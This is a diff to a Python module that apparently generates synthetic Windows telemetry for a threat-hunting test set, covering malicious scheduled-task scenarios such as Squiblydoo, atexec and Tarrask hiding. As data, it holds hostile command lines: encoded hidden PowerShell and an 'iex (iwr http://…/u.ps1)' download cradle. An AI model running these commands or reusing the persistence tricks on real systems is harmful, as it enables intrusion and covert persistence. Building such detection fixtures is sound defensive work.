@@ -20,15 +20,25 @@ from hunting_lib.sample.common import (
     POWERSHELL,
     REGSVR32,
     RUNDLL32,
+    SEC,
     SYS32,
+    SYSTEM,
     T0,
-    compact_json,
 )
-from hunting_lib.sample.planter import Planter, letters, public_ip
+from hunting_lib.sample.planter import letters, public_ip
+from hunting_lib.sample.registrations import Registrar
+from hunting_lib.sample.taskdefs import (
+    TaskSpec,
+    daily_trigger,
+    env_path,
+    local_time,
+    logon_trigger,
+    time_trigger,
+)
 from hunting_lib.sample.templates import HKLM
 
 
-class Attacks(Planter):
+class Attacks(Registrar):
     """The malicious scenarios, one method each."""
 
     def mal_encoded_powershell(self) -> None:
@@ -45,9 +55,13 @@ class Attacks(Planter):
             seed_reports_it=True, folder=POWERSHELL, cmd=f"powershell.exe -nop -w hidden -enc {enc}",
             task_name=self.choice(["\\Microsoft\\Windows\\WinSAT\\WinSATRefresh", "\\GoogleUpdateTaskMachineQA",
                                    "\\Microsoft\\Windows\\Maintenance\\SystemHealthCheck"]))
-        self.created_by_schtasks(k, dev, self.at(1, 10.3), POWERSHELL, "onlogon", "SYSTEM")
+        runs = (self.at(2, 7.9), self.at(3, 8.1))
+        # Registered from an elevated console minutes before the next logon runs it.
+        self.by_schtasks(k, dev, self.later(runs[0], -2400, -360),
+                         TaskSpec("powershell.exe", self.scenarios[k].cmd.split(" ", 1)[1], [logon_trigger()]),
+                         "onlogon", "SYSTEM")
         service = letters(self.rng, 7)
-        for run, ts in enumerate((self.at(2, 7.9), self.at(3, 8.1))):
+        for run, ts in enumerate(runs):
             p = self.run(k, dev, ts)
             self.conhost(p, ts)
             self.dotnet(p, ts)
@@ -92,8 +106,19 @@ class Attacks(Planter):
                  "must flag it."),
             seed_reports_it=True, folder=RUNDLL32, cmd=f"rundll32.exe {dll},{export}",
             task_name="\\" + self.choice(["Adobe Acrobat Update", "OneDrive Sync Helper", "Zoom Updater"]))
-        self.created_by_schtasks(k, dev, self.at(2, 13.5), RUNDLL32, "onlogon", u)
-        for run, ts in enumerate((self.at(3, 7.7), self.at(4, 8.0))):
+        runs = (self.at(3, 7.7), self.at(4, 8.0))
+        # A JScript dropper the user opened registers the task through the Schedule.Service COM API
+        # (event 4698's XML); the task names the DLL with an environment variable.
+        t = self.later(runs[0], -1500, -400)
+        lure = f"C:\\Users\\{u}\\Downloads\\{self.choice(['Invoice', 'Scan', 'Delivery'])}_{letters(self.rng, 5)}.js"
+        host = self.start(self.ll(dev, "explorer"), t, SYS32 + "wscript.exe",
+                          f'"C:\\Windows\\System32\\WScript.exe" "{lure}"', tag=-1, rel=k)
+        self.file(host, self.later(t, 0.5, 1), "FileCreated", dll, rel=k)
+        account = f"{DOMAIN}\\{u}"
+        spec = TaskSpec("%windir%\\system32\\rundll32.exe", f"{env_path(dll)},{export}", [logon_trigger(account)],
+                        user_id=account, run_level="LeastPrivilege", logon_type="InteractiveToken")
+        self.register(k, dev, host, self.later(t, 1.5, 3), spec, self.subject_user(dev), "xml")
+        for run, ts in enumerate(runs):
             p = self.run(k, dev, ts, self.user(dev), "Medium")
             self.dll(p, self.later(ts, 0.05, 0.2), dll, hash_key=f"{self.d.seed}|{dll}")
             for i in range(2):
@@ -125,9 +150,15 @@ class Attacks(Planter):
                  "Defender exclusion. Rare and clearly malicious; the hunt must flag it."),
             seed_reports_it=True, folder=REGSVR32, cmd=f"regsvr32.exe /s /n /u /i:{sct} scrobj.dll",
             task_name="\\Microsoft\\Windows\\Registry\\RegIdleBackupCheck")
-        self.created_by_schtasks(k, dev, self.at(1, 15.2), REGSVR32, "once /st 03:00", "SYSTEM")
         ts = self.at(2, 3.0, 2)
+        start = ts // MIN * MIN
+        self.by_schtasks(k, dev, self.later(ts, -2400, -400),
+                         TaskSpec("regsvr32.exe", self.scenarios[k].cmd.split(" ", 1)[1], [time_trigger(start)]),
+                         f"once /st {local_time(start)[11:16]}", "SYSTEM")
         p = self.run(k, dev, ts)
+        # The operator deletes the one-shot task from the same console a few minutes after it ran.
+        sch, t = self.console(k, dev, self.later(ts, 60, 240), f'schtasks.exe /delete /tn "{self.scenarios[k].task_name}" /f')
+        self.delete(k, dev, sch, self.later(t, 0.05, 0.3), self.subject_user(dev))
         self.dll(p, self.later(ts, 0.05, 0.1), SYS32 + "scrobj.dll")
         self.dll(p, self.later(ts, 0.6, 0.8), SYS32 + "jscript.dll")
         self.net(p, self.later(ts, 0.2, 0.5), ip, 80)
@@ -160,9 +191,22 @@ class Attacks(Planter):
                  "flag it."),
             seed_reports_it=True, folder=folder + exe, cmd=f"{exe} {args}",
             task_name="\\Microsoft\\Windows\\Shell\\UserTaskRefresh")
-        self.created_by_schtasks(k, dev, self.at(2, 16.4), folder + exe, "onlogon", u)
+        runs = (self.at(3, 7.8), self.at(5, 8.2))
+        # Registered with PowerShell's Register-ScheduledTask from the user's session; the action is quoted
+        # and names the roaming profile by its variable.
+        t = self.later(runs[0], -1800, -500)
+        path, leaf = self.scenarios[k].task_name.rsplit("\\", 1)
+        program = f'"{env_path(folder + exe)}"'
+        line = (f"powershell.exe -NoProfile -WindowStyle Hidden -Command \"Register-ScheduledTask -TaskName '{leaf}' "
+                f"-TaskPath '{path}\\' -Action (New-ScheduledTaskAction -Execute '{program}' -Argument '{args}') "
+                "-Trigger (New-ScheduledTaskTrigger -AtLogOn) -Force\"")
+        ps = self.start(self.ll(dev, "explorer"), t, POWERSHELL, line, tag=-1, rel=k)
+        account = f"{DOMAIN}\\{u}"
+        spec = TaskSpec(program, args, [logon_trigger(account)], user_id=account, run_level="LeastPrivilege",
+                        logon_type="InteractiveToken")
+        self.register(k, dev, ps, self.later(t, 2, 5), spec, self.subject_user(dev))
         run_key = f"HKEY_CURRENT_USER\\{self.f.user_sid[dev]}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run"
-        for run, ts in enumerate((self.at(3, 7.8), self.at(5, 8.2))):
+        for run, ts in enumerate(runs):
             p = self.run(k, dev, ts, self.user(dev), "Medium", company="", hash_key=f"{self.d.seed}|{folder}{exe}")
             for i in range(3):
                 self.net(p, self.later(ts, 5 + 600 * i, 30 + 600 * i), ip, 443, domain)
@@ -198,19 +242,26 @@ class Attacks(Planter):
         s = self.scenarios[k]
         ts = self.at(3, 22.5)
         sched = self.ll(dev, "svc_schedule")
-        admin = self.f.admins[0]
-        self.d.event("DeviceLogonEvents", self.ll(dev, "lsass"), self.later(ts, -3, -2), "LogonSuccess", rel=k,
-                     LogonType="Network", AccountDomain=DOMAIN, AccountName=admin, Protocol="NTLM",
-                     RemoteIP=self.f.ip[source], RemoteDeviceName=self.f.names[source], RemoteIPType="Private",
-                     RemotePort=self.port(), LogonId=self.logon_id())
-        self.task_created(k, sched, self.later(ts, -1.5, -1), s.task_name, "cmd.exe", s.cmd.split(" ", 1)[1])
+        admin, admin_sid = self.f.admins[0], self.f.user_sids[len(self.f.ws)]
+        logon = self.logon_id()
+        # atexec logs on over SMB with NTLM, registers the task over RPC (so the Schedule service itself is the
+        # registering process and the caller is in Subject*), runs it, reads the output and deletes both.
+        self.d.event("DeviceLogonEvents", self.ll(dev, "lsass"), self.later(ts, -3, -2), "LogonSuccess",
+                     rel=self._mark(k), LogonType="Network", AccountDomain=DOMAIN, AccountName=admin,
+                     AccountSid=admin_sid, Protocol="NTLM", RemoteIP=self.f.ip[source],
+                     RemoteDeviceName=self.f.names[source], RemoteIPType="Private", RemotePort=self.port(),
+                     LogonId=logon, AdditionalFields='{"IsLocalLogon":false}')
+        subject = (DOMAIN, admin, admin_sid, logon)
+        spec = TaskSpec("cmd.exe", "/C whoami /all > %windir%\\Temp\\" + tmp.rsplit("\\", 1)[1] + " 2>&1",
+                        [time_trigger(ts // SEC * SEC)], hidden=True)
+        self.register(k, dev, sched, self.later(ts, -1.5, -1), spec, subject)
+        s.registrations[-1].update(remote=True, remote_ip=self.f.ip[source])
         p = self.run(k, dev, ts)
         self.conhost(p, ts)
         self.file(p, self.later(ts, 0.02, 0.05), "FileCreated", tmp, 0)
         whoami = self.start(p, self.later(ts, 0.03, 0.06), SYS32 + "whoami.exe", "whoami  /all")
         self.dll(whoami, self.later(ts, 0.07, 0.1), SYS32 + "authz.dll")
-        self.d.event("DeviceEvents", sched, self.later(ts, 2, 4), "ScheduledTaskDeleted", rel=k,
-                     AdditionalFields=compact_json({"TaskName": s.task_name}))
+        self.delete(k, dev, sched, self.later(ts, 2, 4), subject)
         self.file(self.ll(dev, "system"), self.later(ts, 5, 7), "FileDeleted", tmp, rel=k, RequestProtocol="Smb",
                   RequestSourceIP=self.f.ip[source], RequestAccountName=admin)
 
@@ -231,8 +282,9 @@ class Attacks(Planter):
             seed_reports_it=False, folder=folder + exe, cmd=cmd,
             task_name="\\Microsoft\\Windows\\Maintenance\\DeviceHealth")
         first = self.at(1, 9 + float(self.rng.integers(0, 6)), 1)
-        self.created_by_schtasks(k, dev, first - 15 * MIN, folder + exe, "hourly", "SYSTEM")
         minute = int(self.rng.integers(0, 60)) * MIN
+        spec = TaskSpec(folder + exe, cmd.split(" ", 1)[1], [time_trigger(first // MIN * MIN + minute, "PT1H")])
+        self.by_schtasks(k, dev, first - 15 * MIN, spec, "hourly", "SYSTEM")
         for i, ts in enumerate(range(first + minute, T0 + DAYS * DAY, HOUR)):
             ts = int(ts) + int(self.rng.integers(0, 3 * 10**7)) * 100
             p = self.run(k, dev, ts, company="", hash_key=f"{self.d.seed}|{folder}{exe}")
@@ -242,3 +294,74 @@ class Attacks(Planter):
                 self.file(p, self.later(ts, 1, 2), "FileCreated", folder + "cfg.dat", 412)
                 self.reg(p, self.later(ts, 2, 3), HKLM + "Microsoft\\Windows\\CurrentVersion\\Run", exe[:-4],
                          "String", folder + exe)
+
+    def mal_hidden_registry_task(self) -> None:
+        dev = next(self.ws)
+        folder = f"C:\\ProgramData\\Microsoft\\{self.choice(['Network', 'Crypto', 'DeviceSync'])}\\"
+        exe = self.choice(["winupd.exe", "crashsvc.exe", "wdsync.exe"])
+        host = f"{letters(self.rng, 5)}.{self.choice(['com', 'net', 'org'])}"
+        ip = public_ip(self.rng, self.choice([45, 91, 185]))
+        k = self.new(
+            id="mal-hidden-registry-task", kind="malicious", technique="T1053.005",
+            title="Hidden task written straight into the TaskCache registry keys (Tarrask)",
+            why=(f"A SYSTEM PowerShell started through PsExec writes the task's TaskCache Tree and Tasks keys itself "
+                 f"(no ScheduledTaskCreated row) and then deletes its SD value so that schtasks and the Task "
+                 f"Scheduler no longer show it. The task runs an unsigned {exe} from ProgramData twice; rare, and the "
+                 "hunt must flag it."),
+            seed_reports_it=True, folder=folder + exe, cmd=f"{exe} -s",
+            task_name=self.choice(["\\Microsoft\\Windows\\Maintenance\\WinUpdate",
+                                   "\\Microsoft\\Windows\\UPnP\\UPnPHostSync", "\\Microsoft\\Windows\\WDI\\SrvSync"]))
+        runs = (self.at(5, 1.5, 30), self.at(6, 1.5, 30))
+        t = self.at(4, 21.0, 60)
+        admin = self.f.admins[1 % len(self.f.admins)]
+        self.d.event("DeviceLogonEvents", self.ll(dev, "lsass"), self.later(t, -4, -2), "LogonSuccess", rel=k,
+                     LogonType="Network", AccountDomain=DOMAIN, AccountName=admin, Protocol="NTLM",
+                     RemoteIP=self.f.ip[self.first_victim], RemoteDeviceName=self.f.names[self.first_victim],
+                     RemoteIPType="Private", RemotePort=self.port(), LogonId=self.logon_id(),
+                     AdditionalFields='{"IsLocalLogon":false}')
+        psexec = self.start(self.ll(dev, "services"), t, "C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe",
+                            SYSTEM, "System", tag=-1, rel=k, company="Sysinternals - www.sysinternals.com")
+        script = f"C:\\Windows\\Temp\\{letters(self.rng, 6)}.ps1"
+        writer = self.start(psexec, self.later(t, 2, 4), POWERSHELL, f"powershell.exe -nop -ep bypass -File {script}",
+                            tag=-1, rel=k)
+        spec = TaskSpec(env_path(folder + exe), "-s", [time_trigger(r // MIN * MIN) for r in runs], hidden=True)
+        self.registry_only(k, dev, writer, self.later(t, 6, 8), spec, hide_after_s=40)
+        self.file(writer, self.later(t, 4, 5), "FileCreated", folder + exe, rel=k)
+        for run, ts in enumerate(runs):
+            p = self.run(k, dev, ts, company="", hash_key=f"{self.d.seed}|{folder}{exe}")
+            self.net(p, self.later(ts, 1, 3), ip, 443, host)
+            if run:
+                continue
+            t = self.later(ts, 20, 40)
+            shell = self.start(p, t, CMD, 'cmd.exe /c "ipconfig /all & net localgroup administrators"')
+            self.conhost(shell, t)
+            self.start(shell, self.later(t, 0.05, 0.1), SYS32 + "ipconfig.exe", "ipconfig  /all")
+            self.file(p, self.later(ts, 5, 9), "FileCreated", folder + "cache.bin")
+
+    def mal_registered_never_ran(self) -> None:
+        dev = next(self.ws)
+        u = self.f.user[dev]
+        ip = public_ip(self.rng, 185)
+        args = f'-w hidden -nop -c "iex (iwr http://{ip}/u.ps1 -UseBasicParsing)"'
+        k = self.new(
+            id="mal-registered-never-ran", kind="malicious_never_ran", technique="T1053.005",
+            title="A task registered by an HTA attachment that has not run yet",
+            why=("mshta.exe, opened from an Outlook attachment, registers a daily PowerShell download cradle whose "
+                 "first trigger is after the window's end. It never ran, so it is no rare group; only the "
+                 "registrations that never ran (task_registrations) show it."),
+            seed_reports_it=False, folder=POWERSHELL, cmd=f"powershell.exe {args}",
+            task_name="\\" + self.choice(["OneDrive Reporting Task", "Office Feature Updates Logon", "EdgeSyncCheck"]),
+            launched_by="")
+        s = self.scenarios[k]
+        s.devices.append(dev)
+        s.account = f"{DOMAIN}\\{u}"
+        t = self.at(6, 10.0, 240)
+        attachment = (f"C:\\Users\\{u}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q7RX2K1M\\"
+                      f"{self.choice(['Statement', 'Remittance', 'Voicemail'])}.hta")
+        hta = self.start(self.ll(dev, "outlook"), t, SYS32 + "mshta.exe",
+                         f'"C:\\Windows\\System32\\mshta.exe" "{attachment}"', tag=-1, rel=k)
+        account = f"{DOMAIN}\\{u}"
+        spec = TaskSpec("%windir%\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", args,
+                        [daily_trigger(T0 + DAYS * DAY + 2 * DAY + 9 * HOUR)], user_id=account,
+                        run_level="LeastPrivilege", logon_type="InteractiveToken", hidden=True)
+        self.register(k, dev, hta, self.later(t, 2, 6), spec, self.subject_user(dev))
